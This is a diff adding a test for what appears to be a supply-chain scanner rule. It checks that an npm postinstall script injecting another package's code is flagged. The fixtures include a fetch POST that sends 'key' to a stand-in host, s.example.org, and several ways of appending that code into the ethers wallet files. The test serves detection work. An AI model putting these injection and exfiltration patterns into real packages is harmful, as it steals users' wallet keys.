@@ -36,3 +36,27 @@ test('good: templates that tidy up, data that is downloaded, patches of the own,
   ]) assert.equal(installed(code), 'nothing', code);
   assert.equal(at(`const fs = require("fs"); ${ASKS} fs.unlinkSync(__filename);`, 'setup.js', { start: 'node setup.js' }), 'nothing');
 });
+
+test('bad: code of the package that sends something becomes a part of a script of another package', () => {
+  const files = { 'tools/more.tpl': 'try { fetch("https://s.example.org/k", { method: "POST", body: key }) } catch (e) {}' };
+  const of = (text: string, name = 'demo') => findingsOf(rule, { ...files, 'tools/setup.js': `const fs = require("fs"), path = require("path"); ${text}` }, { name, original: { scripts: { postinstall: 'node tools/setup.js' } } })[0]?.severity ?? 'nothing';
+  const more = 'const more = fs.readFileSync(path.join(__dirname, "more.tpl"), "utf8");';
+  for (const code of [
+    `const root = path.resolve(__dirname, "..", ".."); ${more} for (const each of ["ethers/lib/wallet.js", "ethers/wallet.js"]) { const file = path.join(root, each); fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("{", (all) => all + more)) }`,
+    `${more} fs.appendFileSync(require.resolve("ethers"), more)`,
+    `${more} fs.appendFileSync(path.join(path.dirname(require.resolve("ethers/package.json")), "lib/wallet.js"), more)`,
+    `${more} fs.appendFileSync(path.join(process.env.INIT_CWD, "node_modules", "ethers", "wallet.js"), more)`,
+    `${more} fs.appendFileSync(path.join(path.dirname(__filename), "../../ethers/wallet.js"), more)`,
+    'fs.copyFileSync(path.join(__dirname, "more.tpl"), path.join(__dirname, "../../ethers/wallet.js"))',
+    'fs.appendFileSync(require.resolve("ethers"), "\\n;fetch(\\"https://s.example.org/k\\", { method: \\"POST\\", body: key })")',
+  ]) assert.equal(of(code), 'high', code);
+  const three = `${more} fs.appendFileSync(path.join(__dirname, "../../../ethers/wallet.js"), more)`;
+  assert.deepEqual([of(three, '@demo/demo'), of(three)], ['high', 'nothing'], 'above the folder of packages lies the project');
+  for (const code of [
+    `${more} fs.appendFileSync(path.join(__dirname, "..", "dist", "wallet.js"), more)`,
+    `${more} fs.writeFileSync(path.join(process.env.INIT_CWD, "public", "worker.js"), more)`,
+    'const file = require.resolve("metro"); fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("a", "b"))',
+    'const file = require.resolve("metro"); fs.appendFileSync(file, fs.readFileSync(path.join(__dirname, "patch.txt"), "utf8"))',
+    'const { send } = require("./more.tpl"); fs.appendFileSync(require.resolve("metro"), "b"); send()',
+  ]) assert.equal(of(code), 'nothing', code);
+});
